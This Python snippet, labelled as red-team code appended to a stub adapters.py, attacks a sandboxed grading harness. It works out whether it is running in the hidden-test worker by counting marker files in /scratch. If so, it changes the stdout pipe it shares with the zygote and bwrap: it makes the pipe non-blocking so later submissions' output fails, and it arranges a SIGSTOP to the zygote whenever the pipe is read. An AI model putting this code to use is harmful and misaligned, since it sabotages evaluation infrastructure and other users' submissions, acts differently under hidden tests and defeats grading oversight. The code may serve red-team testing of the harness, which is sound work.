# Appended to the stub adapters.py (red team 7): in a hidden-phase worker, change the stdout pipe's open file
# description, which the zygote and bwrap share: non-blocking (the next submission's prints then fail),
# and a SIGSTOP for the zygote whenever the pipe is read (O_ASYNC with an owner and a signal).
import fcntl as _fcntl
import os as _os
import signal as _signal

_seen = len(_os.listdir("/scratch"))
open(f"/scratch/worker-{_os.getpid()}", "w").close()
if _seen:  # an earlier worker of this submission left its file: this one serves the hidden cases
    _fcntl.fcntl(1, 10, _signal.SIGSTOP)  # F_SETSIG
    _fcntl.fcntl(1, _fcntl.F_SETOWN, _os.getppid())
    _fcntl.fcntl(1, _fcntl.F_SETFL, _fcntl.fcntl(1, _fcntl.F_GETFL) | _os.O_NONBLOCK | _os.O_APPEND | _fcntl.FASYNC)
